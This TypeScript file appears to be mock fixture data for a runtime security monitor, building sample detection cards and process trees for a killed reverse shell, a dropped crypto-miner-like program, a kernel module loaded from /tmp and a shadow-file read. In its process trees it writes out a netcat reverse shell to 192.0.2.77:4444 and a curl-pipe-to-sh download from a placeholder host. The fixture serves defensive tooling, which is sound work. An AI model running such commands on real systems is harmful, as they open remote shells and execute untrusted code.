// The mock's detections: a reverse shell that was killed, a dropped program, noise, a foreign sensor's word, and what nobody could tell.
import type { DetectionCard } from "../../src/apps/server/contract/runtime.ts";
import { ProcessEvent } from "../../src/model/process-event.ts";
import { actorNamed, type Actor } from "./world.ts";

const iso = (ms: number): string => new Date(ms).toISOString();
const slotMs = 900_000;

interface Story {
  readonly hash: string;
  readonly actor: string;
  readonly minutesAgo: number;
  readonly card: Partial<DetectionCard> & Pick<DetectionCard, "rule" | "severity" | "title" | "message">;
}

export const stories: readonly Story[] = [
  {
    hash: "a1f00c41d3b2e001",
    actor: "frontend",
    minutesAgo: 4,
    card: {
      rule: "Standard input or output becomes a network connection",
      severity: "critical",
      title: "A shell obeys somebody at 192.0.2.77",
      message:
        "Standard input or output becomes a connection (connection=10.42.0.10:41822->192.0.2.77:4444 program=sh path=/bin/dash)",
      techniques: ["T1059.004", "T1071"],
      tags: ["reverse-shell", "container"],
      action: "killed",
      actions: ["detected", "killed"],
      policy: "frontend-protect",
      receipt: "kernel: SIGKILL at exec of /usr/bin/nc, plane kill",
      process: "sh",
      executable: "/bin/dash",
      ancestors: ["node", "npm"],
      count: 2,
    },
  },
  {
    hash: "b2f00c41d3b2e002",
    actor: "nightly-report",
    minutesAgo: 11,
    card: {
      rule: "Program of the writable layer runs",
      severity: "high",
      title: "A downloaded program runs",
      message: "A program that is not of the image runs (path=/tmp/.cache/kworkerd parent=sh)",
      techniques: ["T1105", "T1059.004", "T1496"],
      tags: ["drift", "container"],
      process: "kworkerd",
      executable: "/tmp/.cache/kworkerd",
      ancestors: ["sh", "python3.11"],
      count: 1,
    },
  },
  {
    hash: "c3f00c41d3b2e003",
    actor: "catalog",
    minutesAgo: 17,
    card: {
      rule: "Shell started by a server program",
      severity: "medium",
      title: "A server program starts a shell",
      message: "A server program starts a shell (program=sh command=sh -c 'id; uname -a' parent=java)",
      techniques: ["T1190", "T1505.003"],
      tags: ["container"],
      process: "sh",
      executable: "/bin/sh",
      ancestors: ["java"],
      count: 14,
    },
  },
  {
    hash: "d4f00c41d3b2e004",
    actor: "ssh.service",
    minutesAgo: 23,
    card: {
      rule: "Kernel module is loaded",
      severity: "high",
      title: "A kernel module is loaded from /tmp",
      message: "A kernel module is loaded (file=/tmp/kit.ko program=insmod)",
      techniques: ["T1547.006", "T1014"],
      tags: ["host"],
      action: "would-deny",
      actions: ["would-deny"],
      policy: "host-modules",
      receipt: "kernel: would deny module at finit_module of /tmp/kit.ko, plane lsm",
      process: "insmod",
      executable: "/usr/bin/kmod",
      ancestors: ["bash", "sshd"],
      count: 1,
    },
  },
  {
    hash: "e5f00c41d3b2e005",
    actor: "node-exporter",
    minutesAgo: 2,
    card: {
      rule: "Sensitive file is read",
      severity: "low",
      title: "A file with credentials is read",
      message: "A sensitive file is read (file=/etc/shadow program=node_exporter)",
      techniques: ["T1003.008"],
      tags: ["filesystem"],
      process: "node_exporter",
      executable: "/bin/node_exporter",
      ancestors: [],
      count: 57,
    },
  },
  {
    hash: "f6f00c41d3b2e006",
    actor: "gateway",
    minutesAgo: 41,
    card: {
      rule: "Terminal shell in container",
      source: "falco",
      severity: "info",
      title: "Terminal shell in container",
      message: "A shell was spawned in a container with an attached terminal (user=root container=gateway)",
      techniques: ["T1059"],
      tags: ["container", "shell", "T1059"],
      process: "bash",
      executable: "/bin/bash",
      processId: "",
      fidelity: "foreign",
      count: 1,
    },
  },
];

export function cardOf({ hash, actor: name, minutesAgo, card }: Story, nowMs: number): DetectionCard {
  const actor = actorNamed(name) as Actor;
  const lastMs = nowMs - minutesAgo * 60_000;
  const firstMs = card.count === 1 ? lastMs : Math.max(Math.floor(lastMs / slotMs) * slotMs, lastMs - 150_000);
  const isPod = actor.namespace !== "host";
  return {
    id: `${Math.floor(lastMs / slotMs).toString(36)}-${hash}`,
    firstAt: iso(firstMs),
    lastAt: iso(lastMs),
    count: 1,
    source: "garrison",
    tags: [],
    techniques: [],
    action: "detected",
    actions: ["detected"],
    policy: "",
    receipt: "",
    cluster: actor.cluster,
    node: actor.node,
    namespace: actor.namespace,
    workload: actor.name,
    workloadKind: actor.kind,
    identityReason: "",
    pod: isPod ? `${actor.name}-7c9d5-x2k4p` : "",
    pods: isPod ? 1 : 0,
    container: isPod ? actor.name : "",
    image: actor.image,
    process: "",
    processId: `${4000 + minutesAgo}.9z.5d41402a`,
    executable: "",
    ancestors: [],
    fidelity: "kernel",
    ...card,
  };
}

export function cardsOf(nowMs: number): readonly DetectionCard[] {
  return stories.map((story) => cardOf(story, nowMs)).toSorted((one, other) => (one.lastAt < other.lastAt ? 1 : -1));
}

type Generation = readonly [
  generation: number,
  pid: number,
  name: string,
  executable: string,
  words: readonly string[],
];

const shellTree: readonly Generation[] = [
  [-2, 3100, "npm", "/usr/local/bin/node", ["npm", "start"]],
  [-1, 3120, "node", "/usr/local/bin/node", ["node", "server.js"]],
  [0, 4004, "sh", "/bin/dash", ["sh", "-i"]],
  [1, 4011, "id", "/usr/bin/id", ["id"]],
  [1, 4012, "nc", "/usr/bin/nc", ["nc", "192.0.2.77", "4444", "-e", "/bin/sh"]],
];
const dropTree: readonly Generation[] = [
  [-2, 5200, "python3.11", "/usr/bin/python3.11", ["python3", "report.py"]],
  [-1, 5210, "sh", "/bin/sh", ["sh", "-c", "curl -fsS http://packages.example/update.sh | sh"]],
  [0, 5222, "kworkerd", "/tmp/.cache/kworkerd", ["/tmp/.cache/kworkerd", "--pool", "pool.example", "--quiet"]],
];

/** Its process with those above and below it; empty where the sensor told no process. */
export function treeOf(card: DetectionCard) {
  if (card.processId === "") return [];
  const own: Generation = [0, 4000, card.process, card.executable, [card.executable]];
  const tree = card.process === "kworkerd" ? dropTree : card.severity === "critical" ? shellTree : [own];
  const startMs = Date.parse(card.firstAt);
  return tree.map(([generation, pid, name, executable, words]) => ({
    process: ProcessEvent.parse({
      time: iso(startMs + generation * 60_000),
      cluster: card.cluster,
      node: card.node,
      action: "exec",
      processId: generation === 0 ? card.processId : `${pid}.9z.5d41402a`,
      parentProcessId:
        generation === 0
          ? `${tree.find(([each]) => each === -1)?.[1] ?? 1}.9z.5d41402a`
          : generation > 0
            ? card.processId
            : `${pid - 20}.9z.5d41402a`,
      pid,
      parentPid: pid - 1,
      uid: 33,
      gid: 33,
      name,
      executable,
      arguments: words,
      startTime: iso(startMs + (generation < 0 ? generation * 3_600_000 : generation * 700)),
      namespace: card.namespace,
      workload: card.workload,
      workloadKind: card.workloadKind,
      pod: card.pod,
      container: card.container,
      image: card.image,
    }),
    ...(name === "nc" ? { endedAt: iso(startMs + 900), exitCode: 0, signal: 9 } : {}),
    ...(name === "id" ? { endedAt: iso(startMs + 800), exitCode: 0, signal: 0 } : {}),
    generation,
    files:
      name === "kworkerd"
        ? [
            { what: "open /etc/resolv.conf", count: 4 },
            { what: "create /tmp/.cache/.lock", count: 1 },
          ]
        : name === "sh" && generation === 0
          ? [{ what: "open /etc/passwd", count: 1 }]
          : [],
    connections:
      name === "kworkerd"
        ? [{ what: "192.0.2.77:4444", count: 3 }]
        : name === "nc" || (name === "sh" && generation === 0)
          ? [{ what: "192.0.2.77:4444", count: 1 }]
          : [],
    names: name === "kworkerd" ? [{ what: "A pool.example", count: 2 }] : [],
    deedsOmitted: name === "kworkerd" ? 6 : 0,
  }));
}
